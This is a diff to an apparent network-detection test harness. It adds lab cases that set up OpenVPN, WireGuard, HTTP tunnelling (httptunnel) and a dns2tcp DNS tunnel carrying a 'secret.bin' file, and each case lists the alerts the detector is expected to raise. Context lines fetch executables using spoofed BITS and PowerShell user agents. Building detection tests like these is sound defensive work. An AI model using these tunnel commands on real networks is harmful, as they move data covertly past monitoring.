@@ -233,3 +233,57 @@ def download_executable(lab):
         lab.run("sk-i", f"curl -s -m 5 -o /dev/null http://198.51.100.10/{name}")
     lab.run("sk-i", "wget -q -T 5 -O /dev/null http://198.51.100.10/install.sh")
     lab.run("sk-i", "curl -s -m 5 -o /dev/null -A 'Microsoft BITS/7.8' http://198.51.100.10/setup.exe; curl -s -m 5 -o /dev/null -A 'Mozilla/5.0 (Windows NT; Windows NT 10.0; ja-JP) WindowsPowerShell/5.1.19041.1' http://198.51.100.10/setup.exe")
+
+
+@case("vpn_openvpn", ["openvpn", "openssl"], [f"{LATER} `vpn`: one alert for 10.30.0.30 (OpenVPN over UDP 1194, and over TCP 443).", "Signatures for OpenVPN's handshake may fire (policy)."])
+def vpn_openvpn(lab):
+    """An inside host opens OpenVPN to a server outside, over UDP 1194 and then over TCP 443, and pings through it."""
+    lab.edge(inside=True)
+    t = lab.tmp
+    lab.quiet("sk-c", f"cd {t} && openssl req -x509 -newkey rsa:2048 -nodes -keyout ca.key -out ca.pem -days 30 -subj /CN=vpn && openssl req -x509 -newkey rsa:2048 -nodes -keyout user.key -out user.pem -days 30 -subj /CN=user")
+    common = f"--dev tun --data-ciphers AES-256-GCM --verb 1 --nobind" 
+    for protocol, port, net in (("udp", 1194, "172.16.21"), ("tcp", 443, "172.16.22")):
+        lab.spawn("sk-c", f"openvpn --dev tun --proto {protocol}{'-server' if protocol == 'tcp' else ''} --local 198.51.100.10 --port {port} --tls-server --dh none --ca {t}/user.pem --cert {t}/ca.pem --key {t}/ca.key --ifconfig {net}.1 {net}.2 --verb 1", wait=1)
+    lab.capture(dev="lan")
+    for protocol, port, net in (("udp", 1194, "172.16.21"), ("tcp", 443, "172.16.22")):
+        child = lab.spawn("sk-i", f"openvpn {common} --proto {protocol}{'-client' if protocol == 'tcp' else ''} --remote 198.51.100.10 {port} --tls-client --ca {t}/ca.pem --cert {t}/user.pem --key {t}/user.key --ifconfig {net}.2 {net}.1", wait=4)
+        lab.run("sk-i", f"ping -n -c 3 {net}.1")
+        lab.stop(child)
+
+
+@case("vpn_wireguard", ["wireguard-go", "wireguard-tools"], [f"{LATER} `vpn`: one alert for 10.30.0.30 (WireGuard over UDP 51820).", "Signatures for WireGuard's handshake may fire (policy)."])
+def vpn_wireguard(lab):
+    """An inside host opens WireGuard to a peer outside and pings through it (wireguard-go)."""
+    lab.edge(inside=True)
+    t = lab.tmp
+    lab.quiet("sk-c", f"cd {t} && wg genkey > a.key && wg pubkey < a.key > a.pub && wg genkey > b.key && wg pubkey < b.key > b.pub; mkdir -p /var/run/wireguard")
+    lab.spawn("sk-c", "env WG_PROCESS_FOREGROUND=1 wireguard-go -f sekisho-wg0", wait=0.7)
+    lab.spawn("sk-i", "env WG_PROCESS_FOREGROUND=1 wireguard-go -f sekisho-wg1", wait=0.7)
+    lab.quiet("sk-c", f"wg set sekisho-wg0 listen-port 51820 private-key {t}/a.key peer $(cat {t}/b.pub) allowed-ips 172.16.23.2/32; ip addr add 172.16.23.1/24 dev sekisho-wg0; ip link set sekisho-wg0 up")
+    lab.quiet("sk-i", f"wg set sekisho-wg1 private-key {t}/b.key peer $(cat {t}/a.pub) allowed-ips 172.16.23.1/32 endpoint 198.51.100.10:51820 persistent-keepalive 2; ip addr add 172.16.23.2/24 dev sekisho-wg1")
+    lab.capture(dev="lan")
+    lab.run("sk-i", "ip link set sekisho-wg1 up; ping -n -c 4 172.16.23.1; sleep 4")
+
+
+@case("http_tunnel", ["httptunnel", "ncat"], [f"{LATER} `wrong_port`: one alert for 10.30.0.30 (a byte stream inside long POST and GET requests).", "Signatures for httptunnel's requests (`/index.html?crap=`) may fire (policy)."])
+def http_tunnel(lab):
+    """httptunnel: an inside host carries a session of an echo service inside HTTP requests (htc, hts)."""
+    lab.edge(inside=True)
+    lab.spawn("sk-c", "ncat -l -k 127.0.0.1 8000 -c cat", wait_port=8000)
+    lab.spawn("sk-c", "hts -F 127.0.0.1:8000 198.51.100.10:8080", wait=0.5)
+    lab.spawn("sk-i", "htc -F 2222 198.51.100.10:8080", wait=0.5)
+    lab.capture(dev="lan")
+    lab.run("sk-i", "(for i in 1 2 3 4; do echo \"line $i of a hidden session\"; sleep 0.5; done; sleep 1) | ncat 127.0.0.1 2222", timeout=15)
+
+
+@case("dns_tunnel_dns2tcp", ["dns2tcp", "ncat"], [f"{LATER} `dns_tunnel`: one alert for 10.30.0.30.", "No `port_scan`."])
+def dns_tunnel_dns2tcp(lab):
+    """A second DNS tunnel (dns2tcp, TXT records): an echo session of 6 kB each way below d.tunnel.example."""
+    lab.edge(inside=True)
+    conf = lab.write("dns2tcpd.conf", f"listen = 198.51.100.10\nport = 53\nuser = nobody\nchroot = {lab.tmp}\ndomain = d.tunnel.example\nkey = coffee\nresources = echo:127.0.0.1:8000\n")
+    lab.write("secret.bin", bytes((i * i * 31) % 253 for i in range(6000)))
+    lab.spawn("sk-c", "ncat -l -k 127.0.0.1 8000 -c cat", wait_port=8000)
+    lab.spawn("sk-c", f"dns2tcpd -F -f {conf}", wait_port=53, udp=True)
+    lab.capture(dev="lan")
+    lab.spawn("sk-i", "dns2tcpc -z d.tunnel.example -k coffee -r echo -l 2222 198.51.100.10", wait_port=2222, wait=0.5)
+    lab.run("sk-i", f"(cat {lab.tmp}/secret.bin; sleep 4) | ncat 127.0.0.1 2222 | wc -c", timeout=20)
